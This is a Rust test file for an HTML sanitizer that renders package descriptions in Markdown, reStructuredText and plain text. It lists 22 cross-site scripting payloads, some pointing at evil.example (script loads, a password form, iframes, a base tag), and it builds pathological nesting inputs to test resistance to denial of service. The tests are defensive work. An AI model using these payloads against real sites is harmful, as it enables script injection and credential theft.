//! What a description may and may not do to the page that shows it.

use super::*;

const MARKDOWN: Option<&str> = Some("text/markdown; charset=UTF-8; variant=GFM");
const RST: Option<&str> = Some("text/x-rst");

fn html(text: &str, kind: Option<&str>) -> String {
    render(text, kind).to_string()
}

/// Everything that could run or load something, or leave the place of the description.
fn assert_harmless(html: &str) {
    let lower = html.to_lowercase();
    for bad in ["<script", "<img", "<iframe", "<svg", "<style", "<form", "<input", "<object", "<link", "<meta", "<base"] {
        assert!(!lower.contains(bad), "{bad} in {html}");
    }
    let mut rest = lower.as_str();
    while let Some(at) = rest.find('<') {
        let tag = &rest[at..at + rest[at..].find('>').expect("every tag ends")];
        for bad in [" on", " style=", "javascript:", "data:", "vbscript:", " src="] {
            let outside_of_title = tag.split(" title=").next().expect("the first part");
            assert!(!outside_of_title.contains(bad), "{bad} in {tag}");
        }
        rest = &rest[at + tag.len()..];
    }
}

const ATTACKS: [&str; 22] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"https://evil.example/pixel.gif\" alt=\"<script>alert(1)</script>\">",
    "<img alt='\"><script>alert(1)</script>' src='https://evil.example/a'>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" jav&#x09;ascript:alert(1)\">x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=\"//evil.example\" target=_top onclick=alert(1)>x</a>",
    "<p style=\"position:fixed;inset:0\">x</p>",
    "<style>body{display:none}</style>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<form action=https://evil.example><input name=password></form>",
    "<div id=\"main\" class=\"top\">x</div>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--><img src=x onerror=alert(1)>-->",
    "<a title='\" onmouseover=\"alert(1)' href=https://x.example>x</a>",
    "<base href=https://evil.example><link rel=stylesheet href=x><meta http-equiv=refresh content=0>",
    "<<script>script>alert(1)<</script>/script>",
];

#[test]
fn nothing_that_runs_or_loads_leaves_any_format() {
    for attack in ATTACKS {
        for kind in [MARKDOWN, RST, None, Some("text/plain"), Some("text/html")] {
            assert_harmless(&html(attack, kind));
            assert_harmless(&html(&format!("Words `{attack}` and **{attack}**\n\n- {attack}\n"), kind));
        }
    }
}

#[test]
fn links_that_run_something_lose_their_address() {
    for text in ["[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](data:text/html,y)", "<javascript:alert(1)>"] {
        let html = html(text, MARKDOWN);
        assert!(!html.contains("href"), "{html}");
    }
    let html = html("`x <javascript:alert(1)>`_ and .. image:: javascript:alert(1)\n\n.. image:: javascript:alert(1)", RST);
    assert!(!html.contains("href=\"javascript"), "{html}");
}

#[test]
fn a_link_out_tells_nothing_and_lends_no_weight() {
    let html = html("[site](https://example.org/?a=1&b=2)", MARKDOWN);
    assert_eq!(html, "<p><a href=\"https://example.org/?a=1&amp;b=2\" rel=\"nofollow noopener\">site</a></p>\n");
}

#[test]
fn a_picture_becomes_a_link_with_its_description() {
    let alone = html("![A graph](https://example.org/g.png)", MARKDOWN);
    assert!(alone.contains("<a class=\"picture\" href=\"https://example.org/g.png\" rel=\"nofollow noopener\">A graph</a>"), "{alone}");
    let badge = html("[![build](https://example.org/b.svg)](https://example.org/ci)", MARKDOWN);
    assert_eq!(badge, "<p><a href=\"https://example.org/ci\" rel=\"nofollow noopener\">build</a></p>\n");
    let local = html("![logo](docs/logo.png)", MARKDOWN);
    assert_eq!(local, "<p>logo</p>\n");
}

#[test]
fn headings_stand_below_those_of_the_page_with_anchors_of_their_own() {
    let html = html("[go](#how-to)\n\n# Spam\n\n## How to\n\n<h1 id=\"main\">Raw</h1>\n", MARKDOWN);
    assert!(html.contains("<h3 id=\"readme-spam\">Spam</h3>"), "{html}");
    assert!(html.contains("<h4 id=\"readme-how-to\">How to</h4>"), "{html}");
    assert!(html.contains("<h3 id=\"readme-main\">Raw</h3>"), "{html}");
    assert!(html.contains("href=\"#readme-how-to\""), "{html}");
}

#[test]
fn markdown_knows_tables_tasks_and_code() {
    let html = html("| a | b |\n|---|--:|\n| 1 | `x|y` |\n\n- [x] done\n- [ ] open\n\n```python\nif a < b: pass\n```\n~~old~~", MARKDOWN);
    for part in [
        "<div class=\"scroll\" tabindex=\"0\" role=\"region\" aria-label=\"Table\"><table>",
        "<li>☑ done</li>",
        "<li>☐ open</li>",
        "<pre tabindex=\"0\"><code>if a &lt; b: pass\n</code></pre>",
        "<del>old</del>",
    ] {
        assert!(html.contains(part), "{part} in {html}");
    }
}

#[test]
fn restructured_text_is_readable() {
    let text = "\
Spam
====

A *light* **meal** with ``code``, see `the site <https://example.org/>`_ or docs_.

.. _docs: https://docs.example.org/
.. |ci| image:: https://example.org/ci.svg
   :target: https://example.org/ci
   :alt: Build

|ci|

Use
---

Run::

    pip install spam
    spam < eggs

- one
- two

  more of two

1. first
2. second

.. code-block:: python

   import spam

.. note:: Mind the gap.

.. frobnicate:: left
   as it is
";
    let html = html(text, RST);
    for part in [
        "<h3 id=\"readme-spam\">Spam</h3>",
        "<h4 id=\"readme-use\">Use</h4>",
        "<em>light</em> <strong>meal</strong> with <code>code</code>",
        "<a href=\"https://example.org/\" rel=\"nofollow noopener\">the site</a>",
        "<a href=\"https://docs.example.org/\" rel=\"nofollow noopener\">docs</a>",
        "<a href=\"https://example.org/ci\" rel=\"nofollow noopener\">Build</a>",
        "<p>Run:</p><pre tabindex=\"0\"><code>pip install spam\nspam &lt; eggs</code></pre>",
        "<ul><li>one</li><li><p>two</p><p>more of two</p></li></ul>",
        "<ol><li>first</li><li>second</li></ol>",
        "<code>import spam</code>",
        "<blockquote><p><strong>Note</strong> Mind the gap.</p></blockquote>",
        "<code>.. frobnicate:: left\n   as it is</code>",
    ] {
        assert!(html.contains(part), "{part} in\n{html}");
    }
}

#[test]
fn plain_text_stays_as_it_is() {
    let html = html("# not a heading <b>\n  *x*", Some("text/plain; charset=UTF-8"));
    assert_eq!(html, "<pre tabindex=\"0\"># not a heading &lt;b&gt;\n  *x*</pre>");
}

#[test]
fn an_empty_description_is_empty() {
    for kind in [MARKDOWN, RST, None, Some("text/plain")] {
        assert!(render(" \n\t\n", kind).is_empty());
    }
}

#[test]
fn what_is_too_long_is_cut_between_characters_and_says_so() {
    let html = html(&"é".repeat(MAX_INPUT_BYTES), Some("text/plain"));
    assert!(html.ends_with("is left out: it is too long.</em></p>"));
    assert!(html.len() < MAX_INPUT_BYTES + 1_000);
}

#[test]
fn raw_html_that_is_badly_nested_comes_out_balanced() {
    let html = html("<div><b><p>one<p>two</b></div></td></table><li>three</ul>\n\nfour", MARKDOWN);
    for name in ["div", "b", "p"] {
        let opened = html.matches(&format!("<{name}>")).count();
        assert_eq!(opened, html.matches(&format!("</{name}>")).count(), "{name} in {html}");
    }
    assert!(!html.contains("<li>"), "an item outside of a list keeps its text only: {html}");
    assert!(html.contains("three"));
}

/// A step that is quadratic in any of these takes minutes; one that copies elements shows in the size.
#[test]
fn hostile_nesting_is_cheap() {
    let (many, n) = (100_000, 20_000);
    let mut formatting: String = (0..5_000).map(|i| format!("<b id=x{i}>")).collect();
    formatting.push_str(&"<p>x".repeat(n));
    let texts = [
        ">".repeat(many),
        "[".repeat(many),
        "![".repeat(n),
        "*a ".repeat(n),
        "`".repeat(n) + "x",
        "<div>".repeat(n),
        "<b>".repeat(n),
        "<a href='".repeat(n),
        "<!--".repeat(n),
        "<svg>".repeat(n),
        "<table><tr><td>".repeat(n / 3),
        "<ul><li>".repeat(n / 2),
        "<p><b><i><u><s>x</p>".repeat(n / 10),
        "- ".repeat(n),
        (0..1_000).map(|i| format!("{}- x\n", " ".repeat(i))).collect(),
        "|a".repeat(n) + "\n" + &"|-".repeat(n),
        "`a <".repeat(n),
        "``".repeat(n),
        ".. note:: x\n   ".repeat(n / 4),
        "a\n=\n\n".repeat(n),
        formatting,
    ];
    for text in texts {
        for kind in [MARKDOWN, RST] {
            assert_in_proportion(&html(&text, kind), &text);
        }
    }
}

fn assert_in_proportion(html: &str, text: &str) {
    let start = &text[..text.len().min(20)];
    assert!(html.len() < 1_000 + text.len() * 12, "{start:?} grew to {} bytes", html.len());
}

/// R26: what a description says is shown, never multiplied: a long address that is named a hundred thousand times stays small.
#[test]
fn references_do_not_multiply_what_they_name() {
    let many = |mark: &str| mark.repeat(100_000);
    for text in [
        format!(".. _a: https://index.example.org/{}\n\n{}", "y".repeat(400_000), many("a_ ")),
        format!(".. _a: https://index.example.org/{}\n\n{}", "y".repeat(1_900), many("a_ ")),
        format!(".. _a: https://index.example.org/{}\n\n{}", "y".repeat(1_900), many("`a`_ ")),
        format!(".. |a| image:: https://index.example.org/{}\n\n{}", "y".repeat(1_900), many("|a| ")),
    ] {
        let html = render(&text, Some("text/x-rst")).to_string();
        assert!(html.len() < 16 << 20, "{} bytes of {}", html.len(), text.len());
    }
    let markdown = format!("[a]: https://index.example.org/{}\n\n{}", "y".repeat(400_000), many("[a] "));
    let html = render(&markdown, Some("text/markdown")).to_string();
    assert!(html.len() < 16 << 20, "{} bytes of {}", html.len(), markdown.len());
}
